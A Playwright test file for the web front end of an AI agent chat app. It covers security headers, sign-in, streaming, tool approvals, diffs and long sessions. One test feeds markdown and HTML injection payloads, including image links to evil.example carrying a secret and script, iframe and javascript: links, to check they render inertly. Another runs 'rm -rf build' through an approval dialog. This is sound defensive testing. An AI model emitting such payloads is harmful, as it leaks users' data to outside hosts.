/** Tests the page in Chromium, against the shared server. Without one (apt-get install chromium) only the served bytes are tested. */

import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { firstRows, isLong, itInTurn } from '../support/long.ts'
import { type Browser, chromium, launchBrowser } from './support/chromium.ts'
import { type Client, eventually, newTenant } from './support/client.ts'
import { owner } from './support/here.ts'
import { findViolations, leave, origin, signIn } from './support/page.ts'

const nobody = owner.as(undefined)

describe('the bytes of the page', () => {
  it('come under a policy that allows our own files alone', async () => {
    const { status, headers, text } = await nobody.get('/')
    expect(status).toBe(200)
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy).toContain(`default-src 'none'; script-src 'self'; style-src 'self'`)
    expect(policy).toContain(`require-trusted-types-for 'script'; trusted-types talaria-worker`)
    expect(policy).toContain(`frame-ancestors 'none'`)
    expect(policy).not.toMatch(/unsafe|https?:|\*/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('referrer-policy')).toBe('no-referrer')
    expect(text).not.toMatch(/<script>|<style|style=|onload=|(?:src|href)="(?:https?:)?\/\//)
  })

  it('are files that never change under their names', async () => {
    const { text } = await nobody.get('/')
    const files = [...text.matchAll(/"(\/app\/[^"]+)"/g)].map(([, name = '']) => name)
    expect(files.length).toBeGreaterThanOrEqual(2)
    for (const name of files) {
      const { status, headers } = await nobody.get(name)
      expect([status, headers.get('cache-control')]).toEqual([200, 'public, max-age=31536000, immutable'])
    }
  })
})

/** A proxy that lets no WebSocket through. */
const refusedSocket = `class extends EventTarget {
  constructor() {
    super()
    setTimeout(() => this.dispatchEvent(new CloseEvent('close', { code: 1006 })))
  }
  close() {}
}`
type Watched = { readonly page: Page; readonly requests: string[]; readonly errors: string[] }

describe.skipIf(chromium === undefined)('the page in Chromium', () => {
  let browser: Browser
  let tenant: Awaited<ReturnType<typeof newTenant>>
  let client: Client
  let context: BrowserContext
  let main: Watched

  const watch = (page: Page): Watched => {
    page.setDefaultTimeout(30_000)
    const [requests, errors]: [string[], string[]] = [[], []]
    page.on('request', (request) => requests.push(request.url()))
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
    page.on('pageerror', (error) => errors.push(error.message))
    return { page, requests, errors }
  }
  /** The lists are read once events come. No later request finds out that the key is revoked. */
  const areEventsComing = async (page: Page, by: string) => {
    if (by === 'streams')
      await page.waitForResponse((response) => response.url().endsWith('/api/events') && response.ok())
    return page.waitForResponse((response) => response.url().endsWith('/api/questions'))
  }
  const newLink = async (by: Client) => (await by.post('/api/login/links')).json.url.replace('127.0.0.1', 'localhost')
  const composer = (page: Page) => page.getByRole('textbox', { name: 'Message' })
  const send = async (page: Page, text: string) => {
    await composer(page).fill(text)
    await composer(page).press('Enter')
  }
  const openSession = async ({ page }: Watched, id: string) => {
    await page.goto(`${origin}/#/chat/${id}`)
    await page.locator('.list').waitFor()
    await composer(page).waitFor()
  }
  /** The message of a person has the words of the answer, too. */
  const answered = (page: Page, text: string) => page.locator('.block.text', { hasText: text }).last().waitFor()
  const isIdle = (page: Page) => page.getByRole('button', { name: 'Answer again' }).waitFor()
  const readLastWord = async (page: Page): Promise<number> =>
    Number(/(\d+)\s*$/.exec(await page.locator('.block.text').last().innerText())?.[1] ?? -1)

  /** A page of nobody. */
  const openEmpty = () => browser.takePage({ locale: 'en-US', viewport: { width: 1280, height: 800 } })

  beforeAll(async () => {
    browser = await launchBrowser()
    tenant = await newTenant(owner)
    client = tenant.client
    main = watch(await openEmpty())
    context = main.page.context()
  })
  afterAll(async () => {
    await leave(main?.page)
    await browser?.close()
  })

  it('signs in with a link, which leaves the address and works once', async () => {
    const link = await newLink(client)
    const { page } = main
    await page.goto(link)
    await composer(page).waitFor()
    expect(page.url()).toBe(`${origin}/`)
    expect(await page.evaluate('document.cookie')).toBe('')
    const other = await openEmpty()
    await other.goto(link)
    await other.getByText('This key or link is not valid').waitFor()
    await leave(other)
  })

  it.each(firstRows(0, ['WebSockets', 'streams'], 1))(
    'signs in with a key, and out by the end of its %s when it is revoked',
    async (by) => {
      const { key } = await newTenant(owner, ['read', 'chat'])
      const page =
        by === 'streams' ? await (await browser.newContext({ locale: 'en-US' })).newPage() : await openEmpty()
      if (by === 'streams')
        await page.addInitScript(`Object.defineProperty(window, 'WebSocket', { value: ${refusedSocket} })`)
      await page.goto(origin)
      await page.getByLabel('Key or sign-in link').fill('not-the-key-of-anybody')
      await page.keyboard.press('Enter')
      await page.getByRole('alert').waitFor()
      await page.getByLabel('Key or sign-in link').fill(key)
      const listening = areEventsComing(page, by)
      await page.keyboard.press('Enter')
      await composer(page).waitFor()
      await listening
      await expect.poll(() => page.getByRole('link', { name: 'Owner' }).count()).toBe(0)
      await owner.send('DELETE', `/api/admin/keys/${key.split('_')[1]}`)
      await page.getByLabel('Key or sign-in link').waitFor()
      await leave(page)
    },
  )

  it('streams an answer, in two tabs alike, goes on after a reload in its midst, and keeps what was said when it stops', async () => {
    const { page } = main
    // Far longer than the test: it ends by the button.
    await send(page, '[[slow ttft=50 chunks=5000 gap=50]] count')
    await page.getByText('word5 ').waitFor()
    const { page: other } = watch(await context.newPage())
    await other.goto(page.url())
    await other.getByText('word8 ').waitFor()
    await page.reload()
    await page.getByRole('button', { name: 'Stop' }).waitFor()
    const said = await readLastWord(other)
    await eventually(
      () => readLastWord(page),
      (last) => last > said,
    )
    await page.getByLabel('While it answers, messages').selectOption('queue')
    await send(page, 'later')
    await page.getByRole('button', { name: 'Take back' }).click()
    await eventually(
      () => other.locator('.queue li').count(),
      (count) => count === 0,
    )
    await page.getByRole('button', { name: 'Stop' }).click()
    const texts: string[] = []
    for (const one of [page, other]) {
      await one.getByText('Stopped. The messages so far are kept.').waitFor()
      await isIdle(one)
      await eventually(
        () => one.locator('.end-of-run .actions').count(),
        (count) => count === 1,
      )
      texts.push((await one.locator('.block.text').innerText()).trim())
    }
    const words = texts[0]?.split(/\s+/) ?? []
    expect(words).toEqual(words.map((_, at) => `word${at}`))
    expect([words.length > said, texts[1]]).toEqual([true, texts[0]])
    await other.close()
  })

  it('shows an approval in the chat and the inbox, whose buttons are dead at first, and closes it everywhere', async () => {
    const { page } = main
    const { page: inbox } = watch(await context.newPage())
    await inbox.goto(`${origin}/#/inbox`)
    await inbox.getByText('Nothing waits for you.').waitFor()
    // The first moment of the card is seen by the page itself.
    await page.evaluate(`new MutationObserver(() => {
      const button = document.querySelector('[role=alertdialog] button')
      if (button && window.wasDead === undefined) window.wasDead = button.disabled
    }).observe(document.body, {subtree: true, childList: true})`)
    await send(page, '[[call terminal {"command":"rm -rf build"} then say removed]]')
    await page.getByRole('alertdialog').waitFor()
    await inbox.getByRole('alertdialog').waitFor()
    expect(await page.evaluate('window.wasDead')).toBe(true)
    await expect.poll(() => inbox.getByRole('alertdialog').innerText()).toContain('rm -rf build')
    await page.getByRole('button', { name: 'In this session: every command “rm …”' }).waitFor()
    await page.getByRole('button', { name: 'Always: every command “rm …”' }).click()
    await page.getByRole('dialog').getByText('in all sessions: every command “rm …”.').waitFor()
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
    await page.getByRole('button', { name: 'Allow once' }).click()
    await inbox.getByText('Nothing waits for you.').waitFor()
    await inbox.close()
    await answered(page, 'removed')
    await isIdle(page)
    await page.locator('.tool summary').last().click()
    await page.locator('.tool .term', { hasText: '$ rm -rf build' }).last().waitFor()
  })

  itInTurn('asks the question of the agent and goes on with the answer', async () => {
    const { page } = main
    await send(page, '[[call clarify {"question":"Which colour?","choices":["red","blue"]} then say chosen]]')
    await page.getByRole('alertdialog').getByRole('button', { name: 'blue' }).click()
    await answered(page, 'chosen')
    await isIdle(page)
    await send(page, '[[call clarify {"question":"Which shade?","choices":[]} then say shaded]]')
    await page.getByRole('alertdialog').getByText('Which shade?').waitFor()
    await page.getByRole('textbox', { name: 'Answer' }).fill('dark')
    await page.keyboard.press('Enter')
    await answered(page, 'shaded')
    await isIdle(page)
    await expect.poll(() => page.getByRole('alertdialog').count()).toBe(0)
  })

  itInTurn('shows the diff of a change, edits the file, and rolls back', async () => {
    const { page } = main
    await send(page, '[[call write_file {"path":"a.txt","content":"one\\ntwo\\n"} then say written]]')
    await answered(page, 'written')
    await isIdle(page)
    await send(
      page,
      '[[call patch {"mode":"replace","path":"a.txt","old_string":"two","new_string":"three"} then say patched]]',
    )
    await answered(page, 'patched')
    await isIdle(page)
    await page.locator('.tool summary', { hasText: 'Changed a file' }).click()
    await page.locator('.diff .added', { hasText: '+three' }).waitFor()
    await page.getByRole('button', { name: 'Files', exact: true }).click()
    await page.locator('.tree a', { hasText: 'a.txt' }).click()
    await page.getByRole('textbox', { name: 'a.txt' }).fill('mine\n')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('Saved.').waitFor()
    await page.getByRole('button', { name: 'Changes' }).click()
    await page.locator('details summary').last().click()
    await page.locator('.diff .added', { hasText: 'mine' }).waitFor()
    await page.getByRole('button', { name: 'Roll back' }).first().click()
    await page.getByRole('dialog').getByRole('button', { name: 'Roll back' }).click()
    await page.getByText('turns undone').waitFor()
    await expect.poll(() => page.locator('.toast.error').count()).toBe(0)
  })

  itInTurn('branches, edits any message, and keeps the versions', async () => {
    const { page } = main
    const id = await client.newSession()
    await openSession(main, id)
    await send(page, '[[say first]]')
    await page.locator('.block.text', { hasText: 'first' }).waitFor()
    await isIdle(page)
    await page.getByRole('button', { name: 'Edit and send again' }).click()
    await eventually(
      () => composer(page).inputValue(),
      (value) => value === '[[say first]]',
    )
    await page.getByRole('button', { name: 'Cancel' }).click()
    await expect.poll(() => composer(page).inputValue()).toBe('')
    await page.getByRole('button', { name: 'Edit and send again' }).click()
    await page.getByText('become an older version when you send').waitFor()
    expect(await client.messages(id)).toHaveLength(2)
    await send(page, '[[say second]]')
    await page.locator('.block.text', { hasText: 'second' }).waitFor()
    await isIdle(page)
    await expect.poll(() => page.locator('.block.user').count()).toBe(1)
    const versions = page.locator('.end-of-run').getByRole('group', { name: 'Versions' })
    await versions.getByText('2/2').waitFor()
    await versions.getByRole('button', { name: 'Older version' }).click()
    await page.locator('.block.text', { hasText: 'first' }).waitFor()
    await page.reload()
    await versions.getByText('1/2').waitFor()
    await send(page, '[[say third]]')
    await page.locator('.block.text', { hasText: 'third' }).waitFor()
    await isIdle(page)
    // The first message is not the newest one any more, and its versions stand below it.
    await page.locator('.block.user').first().getByText('1/2').waitFor()
    await page.locator('.block.user').first().getByRole('button', { name: 'Edit and send again' }).click()
    await expect.poll(() => composer(page).inputValue()).toBe('[[say first]]')
    await send(page, '[[say fourth]]')
    await page.locator('.block.text', { hasText: 'fourth' }).waitFor()
    await isIdle(page)
    await versions.getByText('3/3').waitFor()
    await versions.getByRole('button', { name: 'Older version' }).click()
    await page.locator('.block.text', { hasText: 'second' }).waitFor()
    await page.getByRole('button', { name: 'Branch here' }).click()
    await page.waitForURL((url) => !url.href.endsWith(id))
    await page.locator('.block.text', { hasText: 'second' }).waitFor()
  })

  itInTurn('sends an attached picture, which is there after a reload', async () => {
    const { page } = main
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'p.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') })
    await page.locator('.attachments img').waitFor()
    await send(page, '[[say seen]]')
    await page.locator('.block.text', { hasText: 'seen' }).waitFor()
    await isIdle(page)
    await page.reload()
    const picture = page.locator('.block.user img').last()
    await picture.waitFor()
    await eventually(
      () => picture.evaluate((one) => (one as unknown as { naturalWidth: number }).naturalWidth),
      (width) => width === 1,
    )
    await expect.poll(() => picture.getAttribute('src')).toMatch(/^\/api\/sessions\//)
  })

  itInTurn('sends what failed while offline once, and nothing while an input method chooses', async () => {
    const { page } = main
    const id = await client.newSession()
    await openSession(main, id)
    await composer(page).fill('half')
    await composer(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })
    await expect.poll(() => composer(page).inputValue()).toBe('half')
    await context.setOffline(true)
    await send(page, '[[say once]]')
    await page.getByText('Waits to be sent').waitFor()
    await context.setOffline(false)
    await page.locator('.block.text', { hasText: 'once' }).waitFor()
    await isIdle(page)
    expect((await client.messages(id)).filter(({ role }) => role === 'user')).toHaveLength(1)
  })

  it('draws the attacks of a model as text: no request, no element, no report', async () => {
    const { page, errors } = watch(await context.newPage())
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const attacks = [
      '![a](https://evil.example/p.png?secret)',
      '<img src=https://evil.example/x.png onerror=alert(1)>',
      '<script>alert(1)</script><iframe src=https://evil.example></iframe>',
      '[click](javascript:alert(1))',
      '<a href="javascript:alert(1)">x</a><style>*{display:none}</style><svg onload=alert(1)>',
      '![b](data:image/svg+xml;base64,PHN2Zz4=)',
      '<base href=https://evil.example><form action=https://evil.example><input></form>',
    ].join('\n\n')
    const id = await client.newSession()
    const imported = await client.post('/api/sessions/import', {
      format: 'talaria.session',
      version: 1,
      session: { title: attacks.slice(0, 90) },
      messages: [
        { role: 'user', content: attacks },
        { role: 'assistant', content: attacks, reasoning: attacks },
      ],
    })
    expect([imported.status, id.length > 0]).toEqual([201, true])
    await page.goto(`${origin}/#/chat/${imported.json.id}`)
    await page.locator('.block.text .chip').first().waitFor()
    const elements =
      'document.querySelectorAll(".list :is(script, iframe, base, form, style, a[href^=javascript], img, svg[onload])").length'
    expect(await page.evaluate(elements)).toBe(0)
    expect(asked.filter((url) => !url.startsWith(origin) && !/^(?:data|blob|ws):/.test(url))).toEqual([])
    expect(errors).toEqual([])
    await page.close()
  })

  itInTurn('leaves time for keys between the frames of an answer where they are slow', async () => {
    // Each frame takes as long as on a slow device.
    const script = `{
      const ask = requestAnimationFrame
      globalThis.requestAnimationFrame = (next) => ask((time) => {
        next(time)
        for (const end = performance.now() + 40; performance.now() < end;);
      })
    }`
    const page = await signIn(browser, client, { script, at: `chat/${await client.newSession()}` })
    await page.evaluate(`{
      globalThis.drawn = []
      new MutationObserver(() => drawn.push(performance.now()))
        .observe(document.querySelector('.list'), { subtree: true, childList: true, characterData: true })
    }`)
    await page.getByRole('textbox', { name: 'Message' }).fill('[[slow ttft=0 chunks=200 gap=10]]')
    await page.keyboard.press('Enter')
    await page.getByText('word199').waitFor()
    const lengths = (await page.evaluate(
      "[...document.querySelector('.markdown p').childNodes].map(({ data }) => data.length)",
    )) as number[]
    expect(Math.max(...lengths)).toBeLessThanOrEqual(400)
    const gaps = (await page.evaluate(
      'drawn.slice(1).map((at, n) => at - drawn[n]).filter((ms) => ms > 20)',
    )) as number[]
    // Without rests, most are as long as a frame: some 45 ms.
    expect(gaps.toSorted((one, other) => one - other)[Math.floor(gaps.length / 2)]).toBeGreaterThan(90)
    await page.context().close()
  })

  itInTurn('holds a long session with at most 200 elements, and keeps the place when older ones come', async () => {
    const { page } = main
    const total = isLong ? 10_000 : 1_000
    const newest = `message ${total - 1}`
    const messages = Array.from({ length: total }, (_, at) => ({
      role: at % 2 ? 'assistant' : 'user',
      content: `message ${at}`,
    }))
    const imported = await client.post('/api/sessions/import', {
      format: 'talaria.session',
      version: 1,
      session: { title: 'Long' },
      messages,
    })
    expect(imported.status).toBe(201)
    const { id } = imported.json
    // The list asks for the new session by itself.
    await page.locator(`[data-session="${id}"]`).first().waitFor()
    const asked: string[] = []
    const note = (sent: { readonly url: () => string }) => {
      const { pathname } = new URL(sent.url())
      if (pathname.startsWith('/api/')) asked.push(pathname)
    }
    page.on('request', note)
    await openSession(main, id)
    await page.getByText(newest).waitFor()
    expect(asked.toSorted()).toEqual([`/api/sessions/${id}`, `/api/sessions/${id}/messages`])
    page.off('request', note)
    const count = () => page.locator('.list article').count()
    expect(await count()).toBeLessThanOrEqual(200)
    const first = () => page.locator('.list article').first().innerText()
    for (let turn = 0; turn < 8; turn++) {
      const before = await first()
      await page.locator('.list').evaluate((list) => void ((list as unknown as { scrollTop: number }).scrollTop = 300))
      await eventually(first, (text) => text !== before)
      expect(await count()).toBeLessThanOrEqual(200)
    }
    await expect.poll(() => page.getByText(newest).count()).toBe(0)
    await page.getByRole('button', { name: 'To the newest message' }).click()
    await page.getByText(newest).waitFor()
    expect(await count()).toBeLessThanOrEqual(200)
    // A card appears below before the event of a scroll: the list gets smaller, and still follows its end.
    const gap = await page.evaluate(`(async () => {
      const list = document.querySelector('.list')
      list.scrollTop -= 1
      const card = document.createElement('p')
      Object.assign(card.style, { height: '200px', flex: 'none' })
      document.querySelector('.list-frame').after(card)
      for (let frame = 0; frame < 4; frame++) await new Promise(requestAnimationFrame)
      const left = list.scrollHeight - list.scrollTop - list.clientHeight
      card.remove()
      return left
    })()`)
    expect(gap).toBeLessThan(2)
  })

  it('goes up with a person who is faster than its end is followed', async () => {
    const { page } = main
    const messages = Array.from({ length: 400 }, (_, at) => ({
      role: at % 2 ? 'assistant' : 'user',
      content: `line ${at}`,
    }))
    const sent = { format: 'talaria.session', version: 1, session: { title: 'Fast' }, messages }
    const { id } = (await client.post('/api/sessions/import', sent)).json
    // In the task that draws the messages: no frame has passed, so their size was not observed.
    await page.evaluate(`{
      const observer = new MutationObserver(() => {
        const list = document.querySelector('.list')
        if (!list?.textContent.includes('line 399')) return
        observer.disconnect()
        list.scrollTop = 300
      })
      observer.observe(document.body, { subtree: true, childList: true, characterData: true })
    }`)
    await openSession(main, id)
    const first = () => page.locator('.list article').first().innerText()
    await eventually(first, (text) => !text.includes('line 350'))
    await expect.poll(() => page.getByRole('button', { name: 'To the newest message' }).count()).toBe(1)
  })

  // page-walk.test.ts looks at the other screens.
  itInTurn('has no violation that axe finds in the chat, light and dark', async () => {
    const { page, errors } = main
    const id = await client.newSession()
    await client.chat(
      id,
      '[[call write_file {"path":"b.md","content":"# b"} then say ## **done** `x` [y](https://example.com/)]]',
    )
    await openSession(main, id)
    await page.locator('.block.text').first().waitFor()
    await page.locator('.tool summary').click()
    errors.length = 0
    const light = await findViolations(page, { theme: 'light' })
    expect({ light, dark: await findViolations(page, { theme: 'dark', isColour: true }) }).toEqual({
      light: [],
      dark: [],
    })
    expect(errors).toEqual([])
  })

  it('asks no foreign host', () => {
    const foreign = main.requests.filter((url) => !url.startsWith(origin) && !/^(?:data|blob|ws):/.test(url))
    expect(foreign).toEqual([])
  })
})
